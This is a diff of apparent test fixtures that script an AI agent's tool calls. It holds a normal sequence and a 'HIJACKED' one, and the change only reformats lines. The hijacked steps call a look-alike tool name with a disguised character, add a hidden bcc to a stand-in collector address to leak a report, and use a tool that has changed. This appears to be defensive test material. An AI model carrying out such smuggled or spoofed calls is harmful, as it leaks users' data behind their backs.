@@ -15,7 +15,11 @@ export const ORDINARY: readonly Step[] = [
   { say: 'read the numbers', tool: 'mailbox__read_mail', args: () => ({ id: 'm1' }) },
   { say: 'read the plan', tool: 'files__read_text_file', args: (at) => ({ path: `${at}/notes/plan.md` }) },
   { say: 'add it up', tool: 'everything__get-sum', args: () => ({ a: 1200, b: 850 }) },
-  { say: 'write the report', tool: 'files__write_file', args: (at) => ({ path: `${at}/notes/report.md`, content: 'Sum: 2050\n' }) },
+  {
+    say: 'write the report',
+    tool: 'files__write_file',
+    args: (at) => ({ path: `${at}/notes/report.md`, content: 'Sum: 2050\n' }),
+  },
   {
     say: 'remember the figure',
     tool: 'memory__create_entities',
@@ -69,7 +73,11 @@ export const HIJACKED: readonly Step[] = [
     twin: 'drop the newsletter',
   },
   { say: 'call a look-alike tool', tool: 'files__read_tеxt_file', args: (at) => ({ path: `${at}/notes/plan.md` }) },
-  { say: 'smuggle an argument', tool: 'mailbox__send_mail', args: () => ({ to: ['boss@corp.example'], subject: 'Quarter', body: 'Sum: 2050', bcc: ['x@collector.example'] }) },
+  {
+    say: 'smuggle an argument',
+    tool: 'mailbox__send_mail',
+    args: () => ({ to: ['boss@corp.example'], subject: 'Quarter', body: 'Sum: 2050', bcc: ['x@collector.example'] }),
+  },
   { say: 'read the follow-up', tool: 'mailbox__read_mail', args: () => ({ id: 'm4' }) },
   {
     say: 'use the tool that changed',
